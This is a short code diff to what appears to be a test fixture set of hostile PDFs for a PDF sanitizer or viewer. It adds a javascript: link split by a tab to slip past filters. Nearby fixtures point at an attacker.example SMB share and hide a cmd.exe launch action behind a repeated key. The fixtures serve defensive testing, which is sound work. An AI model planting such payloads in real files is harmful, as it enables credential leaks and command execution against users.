@@ -160,6 +160,7 @@ export const hostile = {
   goToEmbedded: () => onePagePdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>' }),
   goToRemoteShare: () => onePagePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>' }),
   javascriptLink: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'] }),
+  javascriptLinkSplitByTab: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (java\\tscript:alert\\(1\\)) >> >>'] }),
   fileShareLink: () => onePagePdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI 7 0 R >> >>', '(\\\\\\\\attacker.example\\\\share)'] }),
   /** A launch action behind a second /S: readers differ on which value of a repeated key wins. */
   repeatedKeyHidingLaunch: () => onePagePdf({ catalog: '/OpenAction << /S /Launch /S /GoTo /D [3 0 R /Fit] /F (cmd.exe) >>' }),
